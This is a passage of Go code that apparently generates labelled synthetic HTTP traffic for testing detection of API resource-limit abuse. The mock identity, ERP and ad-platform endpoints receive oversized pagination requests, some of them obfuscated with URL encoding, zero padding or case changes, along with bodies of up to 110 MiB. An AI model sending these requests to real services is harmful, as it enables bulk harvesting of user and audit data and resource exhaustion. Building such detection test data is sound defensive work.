	for i, l := range ls {
		var a *h8Actor
		if i%3 == 0 {
			a = g.atk(l.host)
		} else {
			a = g.user(l.host)
		}
		e := g.ex(a, l.method, l.path)
		e.resp(200, l.ct+"; charset=utf-8", l.body())
		g.addA(e, h8SENS)
	}
}

// ---------- resource limits ----------

func (g *h8Gen) attackLimits() {
	type q struct{ host, path string }
	qs := []q{
		{h8IdP, "/admin/v1/users?limit=100000"},
		{h8IdP, "/admin/v1/users?q=a&limit=5000&after="},
		{h8IdP, "/admin/v1/audit-logs?since=2020-01-01T00%3A00%3A00Z&limit=99999"},
		{h8IdP, "/admin/v1/groups?per_page=10000"},
		{h8IdP, "/admin/v1/apps?pageSize=25000"},
		{h8IdP, "/admin/v1/sessions?page_size=1000000"},
		{h8IdP, "/admin/v1/users?LIMIT=2000"},
		{h8IdP, "/admin/v1/audit-logs?maxItems=50000"},
		{h8IdP, "/admin/v1/users?results_per_page=9999"},
		{h8IdP, "/admin/v1/factors?itemsPerPage=100000"},
		{h8IdP, "/admin/v1/users?limit=1001"},
		{h8IdP, "/admin/v1/audit-logs/per_page/50000"},
		{h8ERP, "/api/purchase-orders?pageSize=50000&page=1"},
		{h8ERP, "/api/stock?per_page=999999"},
		{h8ERP, "/api/suppliers?top=100000"},
		{h8ERP, "/api/shipments?%24top=20000"},
		{h8ERP, "/api/stock/movements?perPage=75000"},
		{h8ERP, "/api/bins?rowsPerPage=10000"},
		{h8ERP, "/api/invoices?max_items=40000"},
		{h8ERP, "/api/stock/movements?page_limit=30000"},
		{h8ERP, "/api/purchase-orders?limit=750000&offset=0"},
		{h8Ad, "/v2/campaigns?fields=id&limit=5001"},
		{h8IdP, "/admin/v1/users?per_page=2500&sort=name"},
		{h8ERP, "/api/stock?status=low&pageSize=1500"},
		{h8Ad, "/v2/reports?perpage=30000"},
		{h8ERP, "/api/exports/inventory/per_page/100000"},
		{h8ERP, "/api/customers?num_pages=1&per_page=5000"},
		{h8ERP, "/api/stock?items_per_page=2500"},
		{h8Ad, "/v2/campaigns?per_page=100000"},
		{h8Ad, "/v2/conversions?from=2026-01-01&limit=250000"},
		{h8Ad, "/v2/creatives?page[size]=50000"},
		{h8Ad, "/v2/reports/rpt_" + g.hex(10) + "/rows?pageSize=1000000"},
		{h8Ad, "/v2/audiences?limit=%31%30%30%30%30%30"},
		{h8Ad, "/v2/placements?maxResultsPerPage=60000"},
		{h8Ad, "/v2/events?limit=2147483647"},
		{h8Ad, "/v2/partners?PerPage=12000"},
		{h8Ad, "/v2/keywords?pagesize=40000"},
		{h8Ad, "/v2/campaigns?limit=000010000"},
	}
	for i, x := range qs {
		var a *h8Actor
		if i%2 == 0 {
			a = g.atk(x.host)
		} else {
			a = g.user(x.host)
		}
		e := g.ex(a, "GET", x.path)
		e.rjson(200, map[string]any{"data": []any{map[string]any{"id": "obj_" + g.hex(8)}}, "total": 48211})
		g.addA(e, h8LIM)
	}
	// JSON, form and GraphQL bodies
	bs := []struct {
		host, path string
		body       any
	}{
		{h8Ad, "/v2/reports/query", map[string]any{"dimensions": []string{"date"}, "pagination": map[string]any{"page": 1, "size": 500000}}},
		{h8Ad, "/v2/reports/query", map[string]any{"query": map[string]any{"match_all": map[string]any{}}, "from": 0, "size": 100000}},
		{h8Ad, "/v2/reports/query", map[string]any{"options": map[string]any{"paging": map[string]any{"limit": 200000, "offset": 0}}}},
		{h8Ad, "/v2/audiences/search", map[string]any{"pageable": map[string]any{"page": 0, "size": 90000}}},
		{h8Ad, "/v2/conversions/search", map[string]any{"filter": map[string]any{"value": map[string]any{"$gt": 0}}, "limit": 1000000}},
		{h8IdP, "/scim/v2/Users/.search", map[string]any{"schemas": []string{"urn:ietf:params:scim:api:messages:2.0:SearchRequest"}, "filter": `userName sw "a"`, "startIndex": 1, "itemsPerPage": 100000}},
		{h8IdP, "/admin/v1/audit-logs/search", map[string]any{"criteria": map[string]any{"eventType": "user.session.start"}, "page": map[string]any{"number": 1, "size": 250000}}},
		{h8IdP, "/admin/v1/users/search", map[string]any{"request": map[string]any{"paging": map[string]any{"pageSize": 50000}}}},
		{h8ERP, "/api/stock/search", map[string]any{"warehouse": "DC-EAST-2", "per_page": 80000}},
		{h8ERP, "/api/purchase-orders/search", map[string]any{"criteria": map[string]any{"status": "open"}, "pager": map[string]any{"size": 40000}}},
		{h8ERP, "/api/shipments/search", map[string]any{"query": map[string]any{"carrier": "UPS"}, "maxItems": 30000}},
		{h8ERP, "/api/stock/movements/search", map[string]any{"batch": map[string]any{"pagination": map[string]any{"perPage": 25000}}}},
	}
	for i, b := range bs {
		a := g.atk(b.host)
		if i%3 == 1 {
			a = g.user(b.host)
		}
		e := g.ex(a, "POST", b.path).jbody(b.body)
		g.addA(e.rjson(200, map[string]any{"data": []any{}, "total": 48211}), h8LIM)
	}
	forms := []struct{ host, path, k, v string }{
		{h8IdP, "/admin/v1/groups/search", "limit", "20000"},
		{h8ERP, "/api/stock/export", "pageSize", "100000"},
		{h8Ad, "/v2/leads/export", "per_page", "60000"},
		{h8ERP, "/api/bins/search", "results_per_page", "15000"},
	}
	for _, f := range forms {
		e := g.ex(g.atk(f.host), "POST", f.path).form(url.Values{f.k: {f.v}, "format": {"csv"}})
		g.addA(e.rjson(200, map[string]any{"job": "exp_" + g.hex(8)}), h8LIM)
	}
	gqls := []struct {
		q    string
		vars map[string]any
	}{
		{"query { campaigns(limit: 100000) { id name stats { impressions } } }", nil},
		{"query R($n: Int!) { reportRows(reportId: \"rpt_1\", pageSize: $n) { date spend } }", map[string]any{"n": 500000}},
		{"query { creatives(perPage: 20000) { id sha256 } }", nil},
		{"query Q($lim: Int) { conversions(from: \"2026-01-01\", limit: $lim) { id value } }", map[string]any{"lim": 1000000}},
		{"query { partners(first: 10, pageSize: 99999) { id name } }", nil},
		{"{ audiences(limit:50000){ id size } }", nil},
	}
	for _, q := range gqls {
		body := map[string]any{"query": q.q}
		if q.vars != nil {
			body["variables"] = q.vars
		}
		e := g.ex(g.atk(h8Ad), "POST", "/graphql").jbody(body)
		g.addA(e.rjson(200, map[string]any{"data": map[string]any{}}), h8LIM)
	}
	// JSON bodies above 10 MiB
	big := []struct {
		host, path string
		size       int64
	}{
		{h8Ad, "/v2/events/batch", 12 << 20},
		{h8Ad, "/v2/audiences/aud_" + g.hex(8) + "/members", 48 << 20},
		{h8IdP, "/scim/v2/Bulk", 16 << 20},
		{h8ERP, "/api/purchase-orders/bulk", 110 << 20},
		{h8Ad, "/v2/reports/query", 11 << 20},
	}
	for _, b := range big {
		var sb strings.Builder
		sb.WriteString(`{"data":[`)
		for sb.Len() < 60000 {
			sb.WriteString(`{"event_name":"Purchase","user_data":{"em":"` + g.hex(64) + `"},"custom_data":{"value":1}},`)
		}
		e := g.ex(g.atk(b.host), "POST", b.path)
		e.body = sb.String()
		e.bodySize = b.size
		e.reqH["Content-Type"] = []string{"application/json"}
		g.addA(e.rjson(413, map[string]any{"error": "payload_too_large"}), h8LIM)
	}
}
